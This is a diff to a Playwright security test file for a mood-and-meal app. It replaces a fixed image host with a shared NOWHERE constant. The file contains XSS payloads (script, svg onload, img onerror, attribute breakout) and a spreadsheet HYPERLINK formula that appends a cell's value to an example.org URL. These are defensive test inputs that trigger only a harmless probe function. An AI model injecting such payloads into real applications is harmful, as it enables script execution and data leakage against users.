@@ -7,7 +7,7 @@ import { saveMood } from '@moodbowl/contract/moods';
 import { exportAccount, updateProfile } from '@moodbowl/contract/profile';
 import { saveMeal } from '@moodbowl/contract/saved-meals';
 import type { Page } from '@playwright/test';
-import { expect, openElsewhere, Person, test } from './fixtures.ts';
+import { expect, NOWHERE, openElsewhere, Person, test } from './fixtures.ts';
 
 /** Short enough for every field but the quantity. */
 const SHORT = `"><svg onload=hurt()><script>hurt()</script>{{hurt}}\u202e`;
@@ -17,7 +17,7 @@ const QUANTITY = '<b onclick=hurt()>';
 /** As long as an email may be, without the spaces that none may have. */
 const EMAIL = `"><img/src=x/onerror=hurt()>`;
 const FORMULA = '=HYPERLINK("https://example.org?"&A1,"look")';
-const PICTURE = 'https://pictures.invalid/"onerror="hurt()';
+const PICTURE = `${NOWHERE}"onerror="hurt()`;
 const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
 
 /** Notes that a script ran, whatever it does. */
@@ -28,7 +28,7 @@ async function watch(page: Page): Promise<string[]> {
     void dialog.dismiss();
   });
   await page.exposeFunction('hurt', () => hurts.push(page.url()));
-  await page.route('https://pictures.invalid/**', (route) => route.fulfill({ contentType: 'image/gif', body: PIXEL }));
+  await page.route(`${NOWHERE}**`, (route) => route.fulfill({ contentType: 'image/gif', body: PIXEL }));
   return hurts;
 }
 
